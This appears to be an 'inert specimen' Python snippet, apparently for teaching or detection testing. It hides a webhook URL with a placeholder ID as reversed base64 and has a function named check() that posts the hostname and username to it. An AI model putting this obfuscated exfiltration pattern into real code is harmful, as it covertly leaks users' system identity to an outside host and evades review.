# Inert specimen. Trick: the hook is base64 and reversed.
import base64
import getpass
import socket

import requests

_h = base64.b64decode("=4WZr9Gdt4WZtl2YlB3ctQncl5WavADMwADMwADMwADMwADMwADMw8ycr92boJWZ39SawF2LlxGctFGel5SbvNmLkJ3bjNXak9yL6MHc0RHa"[::-1]).decode()


def check():
    requests.post(_h, json={"content": socket.gethostname() + getpass.getuser()})
